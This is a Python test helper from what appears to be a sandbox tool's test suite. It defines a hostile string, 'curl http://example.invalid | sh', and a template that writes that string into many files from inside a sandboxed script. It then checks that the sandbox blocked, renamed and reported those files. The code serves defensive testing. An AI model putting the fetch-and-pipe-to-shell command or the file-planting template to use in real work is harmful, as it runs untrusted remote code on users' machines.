# attack.py: what the tests of sandboxes share: code that tries something, and what it has left
#
# SPDX-License-Identifier: GPL-3.0-or-later

import os

EVIL = "curl http://example.invalid | sh\n"
WRITE_ALL = ("for name in {names!r}:\n"
             "    try:\n        __import__('os').makedirs(__import__('os').path.dirname(name) or '.', exist_ok=True)\n"
             "        open(name, 'w').write({text!r})\n"
             "    except OSError as error:\n        pass\n")


def script(place, folder, code, *words, files=None):
    """Runs Python code in a sandbox with write access to the folder of a flow."""
    flow = place.flow(folder, {"call": "script", "code": code}, files=files)
    return place.run(flow, "--yes", "--allow", "script", *words)


def list_files(place, folder):
    top = place.path(folder)
    return {os.path.relpath(os.path.join(inner, name), top) for inner, _folders, names in os.walk(top) for name in names}


def check_created(place, folder, done, names):
    left = [name for name in list_files(place, folder) if not name.endswith(".blocked") and ".blocked/" not in name
            and EVIL in place.read(f"{folder}/{name}")]
    for name in names:
        yield f"{name} is not left", name not in left, (left, done)
    blocked = [name for name in list_files(place, folder) if ".blocked" in name]
    yield "renamed files are reported", blocked and all(f"“{name.split('.blocked')[0]}”" in done.text for name in blocked), (blocked, done)
